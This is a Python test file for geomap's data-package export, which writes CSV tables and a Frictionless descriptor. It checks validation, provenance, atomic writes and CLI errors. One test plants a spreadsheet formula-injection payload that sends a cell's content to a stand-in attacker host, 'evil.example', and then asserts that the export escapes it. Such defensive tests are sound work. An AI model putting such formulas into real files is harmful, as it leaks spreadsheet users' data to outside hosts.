"""The research package: CSV tables + datapackage.json that Frictionless validates and geomap reads back."""

import csv
import json

import frictionless
import pytest
from click.testing import CliRunner

from geomap import __version__
from geomap.cli import main
from geomap.datapackage import write_datapackage
from geomap.errors import OutputError
from geomap.export import export_facilities, read_export, with_counts
from geomap.load import read_facilities

from test_export import CURATED, GENERATED_AT, NATIONAL_TOTALS, REPO, same_facilities, synthetic

TABLES = ("facilities", "figures", "national_totals", "status_history")


def errors(folder):
    """Every problem Frictionless reports, as (table, error type, message)."""
    report = frictionless.validate(str(folder / "datapackage.json"))
    problems = [(None, error.type, error.message) for error in report.errors]
    return problems + [(task.name, error.type, error.message) for task in report.tasks for error in task.errors]


def table(folder, name):
    with open(folder / f"{name}.csv", newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def curated():
    facilities, _ = with_counts(read_facilities(CURATED), REPO / "data" / "counts.csv")
    return facilities


def test_the_curated_package_is_valid_frictionless(curated, tmp_path):
    folder = write_datapackage(curated, tmp_path / "package")
    assert errors(folder) == []
    descriptor = json.loads((folder / "datapackage.json").read_text("utf-8"))
    assert [resource["name"] for resource in descriptor["resources"]] == list(TABLES)
    assert descriptor["licenses"][0]["name"] == "ODC-BY-1.0"
    provenance = descriptor["geomap"]
    assert provenance["geomap_version"] == __version__
    assert [item["path"] for item in provenance["inputs"]] == [str(CURATED), str(REPO / "data" / "counts.csv")]
    assert all(len(item["sha256"]) == 64 for item in provenance["inputs"])
    assert provenance["primary_counted_by"] == "foro_penal"
    assert "Foro Penal" in [source["title"] for source in descriptor["sources"]]
    assert len(table(folder, "national_totals")) == len(curated.attrs["national_totals"])
    assert len(table(folder, "figures")) == sum(len(counts) for counts in curated["detainee_counts"])
    assert len(table(folder, "status_history")) == sum(len(events) for events in curated["status_history"])


def test_a_month_only_as_of_and_free_text_organisations_validate(tmp_path):
    facilities = synthetic(60)
    folder = write_datapackage(facilities, tmp_path / "package", generated_at=GENERATED_AT)
    assert errors(folder) == []
    figures = table(folder, "figures")
    assert "2025-06" in {row["as_of"] for row in figures}
    assert [row["counted_by"] for row in table(folder, "national_totals")] == [t["counted_by"] for t in NATIONAL_TOTALS]
    same_facilities(facilities, read_export(folder / "facilities.csv"))


def test_frictionless_catches_a_figure_of_no_facility_and_a_day_that_is_no_date(tmp_path):
    folder = write_datapackage(synthetic(6), tmp_path / "package")
    descriptor = json.loads((folder / "datapackage.json").read_text("utf-8"))
    for resource in descriptor["resources"]:
        resource.pop("hash"), resource.pop("bytes")  # edited below: only the row checks should speak
    (folder / "datapackage.json").write_text(json.dumps(descriptor), "utf-8")
    text = (folder / "figures.csv").read_text("utf-8").replace("f-00001,", "nowhere,", 1).replace("2025-06", "2025-13", 1)
    (folder / "figures.csv").write_text(text, "utf-8")
    assert {problem[:2] for problem in errors(folder)} == {("figures", "foreign-key"), ("figures", "constraint-error")}


def test_a_failed_export_leaves_no_folder_and_keeps_the_earlier_package(tmp_path, monkeypatch):
    folder = write_datapackage(synthetic(6), tmp_path / "package")
    before = {name: (folder / f"{name}.csv").read_bytes() for name in TABLES}
    import geomap.datapackage

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(geomap.datapackage, "write_counts_csv", broken)
    with pytest.raises(OutputError, match="No space left"):
        write_datapackage(synthetic(9), folder)
    assert {name: (folder / f"{name}.csv").read_bytes() for name in TABLES} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["package"]


def test_an_earlier_package_is_replaced_and_a_foreign_folder_is_refused(tmp_path):
    folder = write_datapackage(synthetic(6), tmp_path / "package")
    write_datapackage(synthetic(9), folder)
    assert len(table(folder, "facilities")) == 9
    assert sorted(p.name for p in tmp_path.iterdir()) == ["package"]
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.docx").write_text("three years", "utf-8")
    with pytest.raises(OutputError, match="not empty .* choose a new or empty folder"):
        write_datapackage(synthetic(6), mine)
    assert [p.name for p in mine.iterdir()] == ["thesis.docx"]
    with pytest.raises(OutputError, match="cannot stream to stdout"):
        export_facilities(synthetic(6), "datapackage", "-")


def test_cli_writes_the_package_and_refuses_stdout_and_foreign_folders(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    result = runner.invoke(main, ["export", str(CURATED), "--format", "datapackage", "-o", "out/pkg"])
    assert result.exit_code == 0, result.output
    assert errors(tmp_path / "out" / "pkg") == []
    for output in ("-", "."):
        (tmp_path / "notes.txt").write_text("mine", "utf-8")
        result = runner.invoke(main, ["export", str(CURATED), "--format", "datapackage", "-o", output])
        assert result.exit_code == 1
        assert [line for line in result.output.splitlines() if not line.startswith("joined ")] == [
            "error: a data package is a folder and cannot stream to stdout: give a folder with -o" if output == "-" else
            "error: .: folder is not empty and holds no earlier geomap output: choose a new or empty folder with -o"]
    result = runner.invoke(main, ["export", str(CURATED), "--format", "datapackage", "--excel", "-o", "x"])
    assert (result.exit_code, "drop --excel" in result.output) == (1, True)


def test_no_table_cell_is_a_live_formula_and_facilities_read_back_exactly(tmp_path):
    facilities = synthetic(6)
    facilities.loc[0, "notes"] = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    facilities.attrs["national_totals"] = [{**NATIONAL_TOTALS[0], "note": "@SUM(1)"}]
    folder = write_datapackage(facilities, tmp_path / "package")
    assert errors(folder) == []
    assert table(folder, "facilities")[0]["notes"].startswith("'=HYPERLINK")
    assert table(folder, "national_totals")[0]["note"] == "'@SUM(1)"
    same_facilities(facilities, read_export(folder / "facilities.csv"))
    raw = write_datapackage(facilities, tmp_path / "raw", raw_cells=True)
    assert table(raw, "national_totals")[0]["note"] == "@SUM(1)"
